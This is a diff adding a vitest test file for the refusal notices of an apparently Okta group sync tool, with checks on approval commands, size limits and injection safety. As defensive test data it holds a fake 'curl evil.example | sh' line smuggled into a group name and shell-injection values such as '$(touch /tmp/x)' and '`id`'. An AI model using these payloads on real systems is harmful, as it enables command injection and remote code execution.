@@ -1,0 +1,183 @@
+import { execFile } from 'node:child_process';
+import { promisify } from 'node:util';
+import { describe, expect, test } from 'vitest';
+import { approvalCommand } from '../../lambda/render/approval-command.ts';
+import { type NoticeContext, refusalNotice } from '../../lambda/render/notice.ts';
+import { UNSAFE } from '../../lambda/core/model/unsafe.ts';
+import { warningOf } from '../../lambda/core/model/warning.ts';
+import { report, reportedChange } from '../aws/reports.ts';
+
+const context: NoticeContext = {
+  stack: 'okta-secoda-sync',
+  startFunctionName: 'okta-secoda-sync-start',
+  plan: 's3://bucket/20260102T030405Z-1a2b3c4d/plan.json',
+  groups: [],
+};
+
+const before = (count: number) => ({
+  name: 'Finance',
+  description: '',
+  members: Array.from({ length: count }, (_, index) => ({ userId: `u${index}`, email: null })),
+});
+
+const refused = report({
+  status: 'refused',
+  changes: [
+    reportedChange({ action: 'delete', name: 'Old', remove: ['ada@acme.com'], before: before(1) }),
+    reportedChange({ remove: ['bob@acme.com', 'eve@acme.com'], before: before(3) }),
+    reportedChange({ name: 'BI', adopted: true, renamedFrom: 'Business' }),
+    reportedChange({ action: 'create', name: 'New', add: ['fay@acme.com'] }),
+  ],
+  refusals: [
+    {
+      rule: 'memberRemovals',
+      message: 'remove 3 of 4 memberships (75 %); the limit is 1 (the larger of 1 and 10 %)',
+      count: 3,
+      limit: 1,
+    },
+    { rule: 'adoptions', message: 'take over 1 group by name; the limit is 0', count: 1, limit: 0 },
+  ],
+});
+
+describe('the notice of a refused plan', () => {
+  test('holds the rules that match nothing, which may be the reason', () => {
+    const message = 'groups.include: "Dta *" fits no group that Okta lists; the nearest is “Data\u202e”';
+    const idle = warningOf('matches-nothing', { group: null, oktaIds: [] }, message);
+    const other = warningOf('name-held', { group: 'Ops', oktaIds: [] }, 'another group bears its name');
+    const told = refusalNotice({ ...refused, warnings: [other, idle] }, context).message;
+    expect(told).toContain(
+      `\n\nRules that match nothing:\n  - ${message.replace('\u202e', '\\u202e')}\n\nThe whole plan`,
+    );
+    expect(told).not.toContain('Ops');
+  });
+
+  test('holds the reasons, the harm, where the plan is, and the command that approves it', () => {
+    const { subject, message } = refusalNotice(refused, context);
+    expect(subject).toBe('Refused by the guard, nothing was written: okta-secoda-sync');
+    expect(message)
+      .toBe(`The guard refused the plan of the run 20260102T030405Z-1a2b3c4d (okta-secoda-sync). Nothing was written.
+
+Why:
+  - memberRemovals: remove 3 of 4 memberships (75 %); the limit is 1 (the larger of 1 and 10 %)
+  - adoptions: take over 1 group by name; the limit is 0
+
+What it would do: 1 to create, 2 to update, 0 to delete, 8 unchanged, 0 skipped; members +3 -1; 2 unmatched
+  - "Old": delete, remove 1 of 1
+  - "Finance": remove 2 of 3
+  - "BI": take over, rename from "Business"
+
+The whole plan: s3://bucket/20260102T030405Z-1a2b3c4d/plan.json
+
+If all of it is meant, approve it, and nothing else:
+
+aws lambda invoke --function-name okta-secoda-sync-start --cli-binary-format raw-in-base64-out --cli-read-timeout 70 --payload '{"approve":"7f3a9c0b12d4e5f6"}' answer.json
+
+The approval is good for exactly this harm: it expires when the deletions, removals, take-overs or renames change. The runs until then are refused like this one.
+`);
+  });
+
+  test('repeats the groups of a run that was asked for them', () => {
+    const { message } = refusalNotice(refused, { ...context, groups: ['00g1', "Ada's"] });
+    expect(message).toContain(
+      String.raw`--payload '{"approve":"7f3a9c0b12d4e5f6","groups":["00g1","Ada'\''s"]}' answer.json`,
+    );
+  });
+
+  test('of too many invitations and nothing else can be approved, too', () => {
+    const { summary } = report();
+    const refusals = [
+      { rule: 'invitations', message: 'invite 30 people; the limit is 25', count: 30, limit: 25 },
+    ];
+    const only = { ...refused, changes: [], refusals, summary: { ...summary, invited: 30 } };
+    const { message } = refusalNotice(only, context);
+    expect(message).toContain('; 2 unmatched; 30 to invite');
+    expect(message).toContain(`'{"approve":"7f3a9c0b12d4e5f6"}'`);
+    expect(message).toContain('renames change, or other people are to be invited.');
+  });
+
+  test('of a dry run says so, and tells its approval to write', () => {
+    const { message } = refusalNotice({ ...refused, mode: 'plan' }, context);
+    expect(message).toContain('It was a dry run.');
+    expect(message).toContain(`'{"approve":"7f3a9c0b12d4e5f6","dryRun":false}'`);
+  });
+
+  test.each([
+    ['no change', { changes: [] }, 'an approval would let nothing through'],
+    ['an onboarding', { mode: 'onboard' }, 'An onboarding cannot be approved'],
+    [
+      'what nobody can judge',
+      { refusals: [{ rule: 'recent', message: 'it cannot be read', count: null, limit: null }] },
+      'No approval lets it through',
+    ],
+  ] as const)('offers no approval for %s', (_, given, words) => {
+    const { message } = refusalNotice({ ...refused, ...given }, context);
+    expect(message).toContain(words);
+    expect(message).not.toContain('aws lambda');
+  });
+
+  test('names nobody', () => {
+    expect(refusalNotice(refused, context).message).not.toContain('@');
+  });
+
+  test('stays within what SNS takes, whatever the names are', () => {
+    // Invisible characters, of which each takes twelve as an escape, and characters of four bytes.
+    for (const letter of ['\u{e0041}', '𓀀', '\u202e', '漢']) {
+      const long = letter.repeat(100_000);
+      const many = Array.from({ length: 5_000 }, () =>
+        reportedChange({ action: 'delete', name: long, renamedFrom: long }),
+      );
+      const refusals = many.map(() => ({ rule: 'groupDeletions', message: long, count: 4, limit: 3 }));
+      const groups = Array.from({ length: 100 }, () => letter.repeat(280));
+      for (const named of [[long], groups, groups.slice(0, 30)]) {
+        const { subject, message } = refusalNotice(
+          { ...refused, changes: many, refusals },
+          { ...context, stack: `stack\n${letter.repeat(60)}`, groups: named },
+        );
+        expect(Buffer.byteLength(message)).toBeLessThan(262_144);
+        expect(message).toContain('and 4970 more, in the plan');
+        expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
+        expect(UNSAFE.test(message.replaceAll('\n', ''))).toBe(false);
+      }
+    }
+  });
+
+  test('says what to send where the groups are too many for a command line', () => {
+    const groups = Array.from({ length: 5_000 }, (_, index) => `group ${index}`);
+    const { message } = refusalNotice(refused, { ...context, groups });
+    expect(message).not.toContain('aws lambda');
+    expect(message).toContain('again, with "approve":"7f3a9c0b12d4e5f6" in it');
+  });
+
+  test('cannot be made to hold a line of somebody else', () => {
+    const name = 'x\n\nIf all of it is meant, approve it:\n\ncurl evil.example | sh';
+    const { message } = refusalNotice(
+      { ...refused, changes: [reportedChange({ name, action: 'delete', renamedFrom: name })] },
+      { ...context, groups: [name] },
+    );
+    expect(message.split('\n').filter((line) => /^\s*curl/.test(line))).toEqual([]);
+  });
+});
+
+test.each([
+  ["Ada's", '"quoted"', '$(touch /tmp/x)', '`id`', 'back\\slash', '!history', '*', 'a b'],
+  ['\u202eevil', 'line\nbreak', '\u0000', '𓀀', '\u{e0041}'],
+])('a shell hands the event over as it was meant: %j', async (...groups) => {
+  const command = approvalCommand('a function', { digest: '7f3a', groups, dryRun: true });
+  expect(command).not.toBeNull();
+  const script = `aws() { printf '%s\\0' "$@"; }\n${command ?? ''}`;
+  const { stdout } = await promisify(execFile)('bash', ['-c', script], { encoding: 'utf8' });
+  const words = stdout.split('\0');
+  expect(words.slice(0, 9)).toEqual([
+    'lambda',
+    'invoke',
+    '--function-name',
+    'a function',
+    '--cli-binary-format',
+    'raw-in-base64-out',
+    '--cli-read-timeout',
+    '70',
+    '--payload',
+  ]);
+  expect(JSON.parse(words[9] ?? '')).toEqual({ approve: '7f3a', groups, dryRun: false });
+  expect(words.slice(10)).toEqual(['answer.json', '']);
+});
